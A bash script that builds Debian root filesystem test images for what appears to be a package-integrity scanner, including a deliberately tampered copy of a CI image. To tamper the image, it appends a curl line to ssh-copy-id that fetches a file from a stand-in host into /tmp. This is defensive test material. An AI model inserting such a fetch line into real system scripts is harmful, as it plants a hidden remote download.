#!/usr/bin/env bash
# Build the three Debian root filesystems used to judge the package view
# (issue 9): a Python web app, a CI build image and a Node image, each a
# debootstrap minbase plus packages, every file an unmodified package file.
# Then a "tampered" copy of the CI image: a packaged script edited and curl
# copied into /usr/local/bin and /opt/tools.
#
#   tests/images/debian.sh [OUT_DIR]     (default target/debian-images)
#
# Scan them as root filesystems: `stowaway scan dir:OUT_DIR/python`.
# Needs root (debootstrap) and the Debian mirror; images are never committed.
set -euo pipefail
out=${1:-target/debian-images}
suite=${SUITE:-bookworm}
mkdir -p "$out"

build() { # name packages
  local name=$1 pkgs=$2
  if [ -x "$out/$name/usr/bin/apt-get" ] && [ -f "$out/$name/.stowaway-done" ]; then
    return
  fi
  rm -rf "${out:?}/$name"
  # minbase, then apt-get in a chroot (debootstrap --include cannot order
  # the configuration of npm's many dependencies).
  debootstrap --variant=minbase "$suite" "$out/$name" >/dev/null
  cp /etc/resolv.conf "$out/$name/etc/resolv.conf"
  chroot "$out/$name" apt-get update -qq
  chroot "$out/$name" env DEBIAN_FRONTEND=noninteractive \
    apt-get install -y -qq --no-install-recommends ${pkgs//,/ } >/dev/null
  chroot "$out/$name" apt-get clean
  find "$out/$name/var/lib/apt/lists" -maxdepth 1 -type f -delete
  chroot "$out/$name" dpkg -V # every file an unmodified package file
  touch "$out/$name/.stowaway-done"
}

build python python3,python3-pip,python3-flask &
p1=$!
build ci build-essential,git,curl,openssh-client &
p2=$!
build node nodejs,npm &
p3=$!
wait $p1 && wait $p2 && wait $p3

# The tampered copy of the CI image.
rm -rf "${out:?}/ci-tampered"
cp -a "$out/ci" "$out/ci-tampered"
t="$out/ci-tampered"
printf '\ncurl -fsSL http://203.0.113.7/x -o /tmp/x\n' >>"$t/usr/bin/ssh-copy-id"
mkdir -p "$t/usr/local/bin" "$t/opt/tools"
cp "$t/usr/bin/curl" "$t/usr/local/bin/curl"
cp "$t/usr/bin/curl" "$t/opt/tools/curl"
echo "built in $out: python ci node ci-tampered"
